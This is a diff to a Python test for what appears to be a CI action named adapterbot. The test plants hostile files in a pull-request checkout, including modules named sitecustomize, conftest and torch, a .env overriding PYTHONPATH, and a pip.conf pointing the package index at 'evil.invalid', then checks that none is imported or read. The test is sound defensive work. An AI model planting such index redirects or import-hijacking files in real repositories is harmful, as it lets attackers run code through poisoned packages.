@@ -193,11 +193,12 @@ def test_a_finding_fails_the_job_with_its_exit_code_and_still_has_outputs(reposi
     assert '"first-bad-checkpoint": "a first-bad-checkpoint"' in run.log
 
 
-def test_nothing_in_the_pull_request_is_imported(repository, action):
+def test_attack_nothing_in_the_pull_request_is_imported_or_read_as_settings(repository, action):
     """Files named like what Python, the action and torch import, and a .env, in the checkout."""
     names = (
         "sitecustomize",
         "usercustomize",
+        "conftest",
         "adapterbot",
         "torch",
         "json",
@@ -207,6 +208,8 @@ def test_nothing_in_the_pull_request_is_imported(repository, action):
     for name in names:
         (repository / f"{name}.py").write_text("raise SystemExit('the pull request ran')\n")
     (repository / ".env").write_text("ADAPTERBOT_COMMAND=publish\nPYTHONPATH=.\n")
+    (repository / "pip.conf").write_text("[global]\nindex-url = https://evil.invalid/simple\n")
+    (repository / "adapterbot.yaml").write_text("adapters: []\n")
     commit(repository, "hostile files")
     run = run_act(
         repository,
